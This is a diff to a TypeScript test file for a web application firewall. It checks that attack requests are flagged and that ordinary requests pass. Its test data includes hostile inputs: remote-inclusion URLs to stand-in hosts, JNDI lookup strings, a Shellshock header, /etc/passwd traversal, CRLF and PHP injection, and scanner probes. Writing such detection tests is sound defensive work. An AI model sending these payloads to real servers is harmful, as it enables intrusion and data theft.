@@ -2,7 +2,7 @@ import { describe, expect, test } from "bun:test";
 import { loadRuleSet } from "@egide/waf/rule-set.ts";
 import { OWN_IDS, ownRules } from "#own.ts";
 import { ask, type Asked } from "#testing/ask.ts";
-import { attacks } from "#testing/attacks.ts";
+import { alone, attacks } from "#testing/attacks.ts";
 import { ordinary } from "#testing/ordinary.ts";
 
 const before = {
@@ -26,23 +26,39 @@ function found(asked: Asked): { score: number; tags: readonly string[]; ids: num
   };
 }
 
+/** Where a value stands in a query, a form and a document. */
+const placesOf = (value: string, name: string): readonly Asked[] => [
+  { target: `/search?${name}=${encodeURIComponent(value)}` },
+  { target: "/", form: { name: "x", comment: value } },
+  { target: "/api", json: { list: [{ text: value }] } },
+];
+
 describe("attacks are found", () => {
-  for (const [tag, values] of Object.entries(attacks)) {
-    for (const value of values) {
-      test(`${tag}: ${JSON.stringify(value)}`, () => {
-        const places: Asked[] = [
-          { target: `/search?q=${encodeURIComponent(value)}` },
-          { target: "/", form: { name: "x", comment: value } },
-          { target: "/api", json: { list: [{ text: value }] } },
-        ];
-        for (const place of places) {
-          const { score, tags } = found(place);
-          expect(tags).toContain(tag);
-          expect(score).toBeGreaterThanOrEqual(THRESHOLD);
-        }
-      });
+  for (const [lists, name] of [
+    [attacks, "q"],
+    [alone, "id"],
+  ] as const) {
+    for (const [tag, values] of Object.entries(lists)) {
+      test.each(values.map((value) => [JSON.stringify(value), value] as const))(
+        `${tag}: %s`,
+        (_text, value) => {
+          for (const place of placesOf(value, name)) {
+            const { score, tags } = found(place);
+            expect(tags).toContain(tag);
+            expect(score).toBeGreaterThanOrEqual(THRESHOLD);
+          }
+        },
+      );
     }
   }
+
+  test("but not where people search for words", () => {
+    for (const value of Object.values(alone).flat()) {
+      // Literals, and code that nothing else reads like, are found there as well.
+      if (/'/.test(value)) continue;
+      expect(found({ target: `/search?q=${encodeURIComponent(value)}` }).ids).toEqual([]);
+    }
+  });
 
   const requests: readonly (readonly [string, Asked])[] = [
     ["attack-scanner", { target: "/.env" }],
@@ -62,6 +78,9 @@ describe("attacks are found", () => {
     ["attack-scanner", { target: "/uploads/c99.php" }],
     ["attack-scanner", { target: "/", headers: { "User-Agent": "sqlmap/1.8#stable" } }],
     ["attack-scanner", { target: "/", headers: { "User-Agent": "Mozilla/5.0 (Nikto/2.5)" } }],
+    ["attack-scanner", { target: "/.claude/settings.json" }],
+    ["attack-protocol", { target: "/a%0ab" }],
+    ["attack-protocol", { target: "/?a%0d%0ab=c" }],
     ["attack-protocol", { target: "/", method: "TRACE" }],
     ["attack-protocol", { target: "/?a=%00" }],
     ["attack-protocol", { target: "/?a=x%0d%0aSet-Cookie:%20a=b" }],
@@ -71,6 +90,18 @@ describe("attacks are found", () => {
     ["attack-lfi", { target: "/..;/manager/html" }],
     ["attack-lfi", { target: "/a", headers: { Cookie: "lang=../../../../etc/passwd" } }],
     ["attack-rfi", { target: "/?page=http://x.example/shell.txt?" }],
+    ["attack-rfi", { target: "/?src=http://192.0.2.1/a.php" }],
+    ["attack-rfi", { target: "/?mosConfig_absolute_path=https://x.example" }],
+    ["attack-lfi", { target: "/", headers: { "X-File": "../../../etc/passwd" } }],
+    ["attack-upload", { target: "/", headers: { "X-File-Name": "a.php." } }],
+    ["attack-upload", { target: "/", headers: { "X.Filename": "sess_0123456789abcdef" } }],
+    ["attack-rce", { target: "/", headers: { "User-Agent": ";env" } }],
+    ["attack-injection-java", { target: "/", headers: { "X-Class": "java.lang.Runtime" } }],
+    ["attack-injection-php", { target: "/", headers: { "X-Forwarded-For": "<?=phpinfo()?>" } }],
+    [
+      "attack-fixation",
+      { target: "/login?phpsessid=abc", headers: { Referer: "https://x.example/" } },
+    ],
     ["attack-rce", { target: "/", headers: { "User-Agent": "() { :; }; echo x" } }],
     ["attack-rce", { target: "/", headers: { "User-Agent": "${jndi:ldap://x.example/a}" } }],
     ["attack-rce", { target: "/", headers: { "X-Api-Version": "${jndi:rmi://x.example/a}" } }],
@@ -111,6 +142,11 @@ describe("attacks are found", () => {
 });
 
 describe("ordinary requests pass", () => {
+  test("with a session in a link of the site itself", () => {
+    const headers = { Referer: "https://example.org/a?b=1" };
+    expect(found({ target: "/login?jsessionid=abc", headers }).ids).toEqual([]);
+  });
+
   test.each(ordinary.map((value) => [value] as const))("%j", (value) => {
     const places: Asked[] = [
       { target: `/search?q=${encodeURIComponent(value)}` },
